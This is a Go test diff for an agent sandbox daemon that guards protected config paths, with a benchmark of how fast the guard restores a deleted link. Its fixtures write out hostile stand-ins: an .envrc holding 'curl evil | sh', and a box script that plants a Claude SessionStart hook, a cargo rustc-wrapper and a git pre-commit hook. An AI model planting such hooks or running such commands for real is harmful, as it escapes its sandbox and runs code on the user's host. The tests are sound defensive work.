@@ -6,6 +6,8 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -21,6 +23,7 @@ import (
 // with an error naming .envrc and how to break the link, the host's file is unchanged, and
 // the daemon admits the next launch once the link is broken.
 func TestAttackHardLinkedProtectedFile(t *testing.T) {
+	t.Parallel()
 	e := newDaemonEnv(t)
 	repo(t, e.work)
 	envrc := filepath.Join(e.work, ".envrc")
@@ -65,6 +68,7 @@ func runSh(dir, script string) ([]byte, error) {
 // from then on: the box's writes succeed in the box and are kept as proposed changes, and the
 // host's workspace holds nothing the box wrote.
 func TestAttackHostRemovedProtectedFile(t *testing.T) {
+	t.Parallel()
 	needGit(t)
 	evil := map[string]string{
 		".envrc":                     "curl evil | sh\n",
@@ -126,6 +130,7 @@ mkdir -p .claude .github/workflows
 // /etc/shadow removed on the host") and tried to move /etc/shadow aside. Now the end of a watch
 // counts as the removal of what lay beneath that folder only: the box runs to its end.
 func TestHostRemovesFolderHoldingProtectedFolder(t *testing.T) {
+	t.Parallel()
 	e := newDaemonEnv(t)
 	repo(t, e.work)
 	type result struct {
@@ -175,20 +180,23 @@ func TestHostRemovesFolderHoldingProtectedFolder(t *testing.T) {
 // guarded: what the box puts there is moved into the proposed changes and the host's link is
 // made again, so the host's git commit runs no box hook and each path is the host's link. For
 // both engines: the bwrap engine's bwrap-init runs the same guard.
+//
+// Also (issue #20): a link the box only deletes is made again on the deletion's event. Before,
+// it came back at the guard's next pass, which nothing started until the box ended: while the
+// box ran, the host's git status listed the tracked link as deleted and `git commit -a` would
+// have committed the deletion.
 func TestAttackSymlinkedProtectedPaths(t *testing.T) {
+	t.Parallel()
 	for _, eng := range []string{"native", "bwrap"} {
-		t.Run(eng, func(t *testing.T) { attackSymlinkedProtectedPaths(t, eng) })
+		t.Run(eng, func(t *testing.T) {
+			t.Parallel()
+			attackSymlinkedProtectedPaths(t, eng)
+		})
 	}
 }
 
 func attackSymlinkedProtectedPaths(t *testing.T, eng string) {
-	e := newDaemonEnv(t)
-	if eng == "bwrap" {
-		if _, err := exec.LookPath("bwrap"); err != nil {
-			t.Skip("bwrap not installed")
-		}
-	}
-	write(t, filepath.Join(e.root, "c", "agentbox", "config.yaml"), "engine: "+eng+"\nintegrity:\n  interval: 1s\n")
+	e := newEngineDaemonEnv(t, eng)
 	repo(t, e.work)
 	mark, touch := e.marker("pre-commit")
 	shared, dot := filepath.Join(e.root, "shared-hooks"), filepath.Join(e.root, "dot")
@@ -210,11 +218,27 @@ func attackSymlinkedProtectedPaths(t *testing.T, eng string) {
 	}
 	git(t, e.work, "add", "-A")
 	git(t, e.work, "commit", "-q", "-m", "links")
-	out := e.boxPlant(fmt.Sprintf(`rm .claude/settings.json && printf '{"hooks":{"SessionStart":"evil"}}' > .claude/settings.json
-rm .cargo/config.toml && printf '[build]\nrustc-wrapper = "tools/w.sh"\n' > .cargo/config.toml
+	// First the box only deletes the tracked link .cargo/config.toml, and waits: the host's git
+	// must find it in place again while the box runs.
+	hostSaw := e.hostCheck(func() string {
+		if gs, _ := hostGit(e.work, "status", "--porcelain"); gs != "" {
+			return "the host's git status while the box ran, after it deleted the link:\n" + gs
+		}
+		return ""
+	})
+	// Then it replaces each link with its own file or folder: a file renamed over the link (a
+	// deleted link is made again at once), a folder after deleting the link (which races with
+	// the link made again: either the box's folder is moved out, or its mkdir fails).
+	out := e.boxPlant(fmt.Sprintf(`rm .cargo/config.toml && %s
+printf '{"hooks":{"SessionStart":"evil"}}' > s.json && mv -f s.json .claude/settings.json
+printf '[build]\nrustc-wrapper = "tools/w.sh"\n' > c.toml && mv -f c.toml .cargo/config.toml
 rm .vscode && mkdir .vscode && printf '{"tasks":"evil"}' > .vscode/tasks.json
 rm .git/hooks && mkdir .git/hooks && printf '#!/bin/sh\n%s\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
-echo planted`, touch))
+echo planted`, boxWaitScript, touch))
+	if msg := <-hostSaw; msg != "" {
+		t.Errorf("%s\nthe box said:\n%s", msg, out)
+	}
+	os.Remove(filepath.Join(e.work, ".git", "agentbox-test-go"))
 	if !strings.Contains(out, "planted") {
 		t.Fatalf("the plant did not complete:\n%s", out)
 	}
@@ -242,5 +266,71 @@ echo planted`, touch))
 	}
 	if !strings.Contains(out, "changes to protected configuration: agentbox changes") {
 		t.Errorf("agentbox run did not say that the box proposed changes:\n%s", out)
+	}
+}
+
+// BenchmarkLinkRestoreWindow measures the window of a guarded symlink (docs/integrity.md,
+// "Symlinked protected paths"): in a real box, once per engine, a program removes the host's
+// symlink .claude/settings.json (a protected path that is a link into the user's dotfiles) and
+// polls every 20 µs, as a host program looking for it would, until the guard has made it again.
+// Each op is one removal; ns/op is the mean time from the unlink to the link's return, as the
+// box sees it (the launch itself is not counted), window-p50-µs and window-max-µs the median
+// and the longest. Run it with -benchtime=Nx (N removals in one box).
+func BenchmarkLinkRestoreWindow(b *testing.B) {
+	if _, err := exec.LookPath("python3"); err != nil {
+		b.Skip("python3 not installed")
+	}
+	for _, eng := range []string{"native", "bwrap"} {
+		b.Run(eng, func(b *testing.B) {
+			e := newEngineDaemonEnv(b, eng)
+			repo(b, e.work)
+			dot := filepath.Join(e.root, "dot", "settings.json")
+			write(b, dot, "{}\n")
+			link := filepath.Join(e.work, ".claude", "settings.json")
+			os.Remove(link) // repo's file
+			if err := os.Symlink(dot, link); err != nil {
+				b.Fatal(err)
+			}
+			out := e.boxPlant(fmt.Sprintf(`exec python3 -c '
+import os, time
+link = ".claude/settings.json"
+ws = []
+for i in range(%d):
+    t = time.perf_counter_ns()
+    os.unlink(link)
+    while not os.path.islink(link):
+        time.sleep(20e-6)
+        if time.perf_counter_ns() - t > 10e9:
+            raise SystemExit("the link was not made again within 10 s")
+    ws.append(time.perf_counter_ns() - t)
+print("windows", *ws)
+'`, b.N))
+			var ws []int64
+			for _, line := range strings.Split(out, "\n") {
+				if f := strings.Fields(line); len(f) > 0 && f[0] == "windows" {
+					for _, s := range f[1:] {
+						n, err := strconv.ParseInt(s, 10, 64)
+						if err != nil {
+							b.Fatalf("the box said %q", line)
+						}
+						ws = append(ws, n)
+					}
+				}
+			}
+			if len(ws) != b.N {
+				b.Fatalf("%d windows measured, want %d; the box said:\n%s", len(ws), b.N, out)
+			}
+			if t, err := os.Readlink(link); err != nil || t != dot {
+				b.Fatalf("the host's symlink after the box: %q, %v", t, err)
+			}
+			slices.Sort(ws)
+			var sum int64
+			for _, w := range ws {
+				sum += w
+			}
+			b.ReportMetric(float64(sum)/float64(len(ws)), "ns/op")
+			b.ReportMetric(float64(ws[len(ws)/2])/1e3, "window-p50-µs")
+			b.ReportMetric(float64(ws[len(ws)-1])/1e3, "window-max-µs")
+		})
 	}
 }
